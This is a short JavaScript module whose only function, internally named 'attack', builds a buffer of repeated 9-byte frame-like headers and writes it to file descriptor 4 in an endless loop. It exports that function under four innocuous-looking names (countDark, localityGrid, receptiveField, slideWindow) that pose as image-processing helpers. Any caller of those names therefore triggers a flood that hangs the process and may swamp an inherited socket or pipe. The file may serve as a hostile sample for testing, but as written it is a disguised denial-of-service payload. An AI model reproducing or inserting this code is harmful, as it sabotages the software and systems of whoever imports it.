// Sends frames without end that nobody asked for.
const fs =
  globalThis.process?.getBuiltinModule?.('node:fs') ?? (await import('node:fs').catch(() => undefined));
const attack = () => {
  const frames = new Uint8Array(9 * 7000);
  for (let at = 4; at < frames.length; at += 9) frames[at] = 4;
  while (fs) fs.writeSync(4, frames);
  return 0;
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
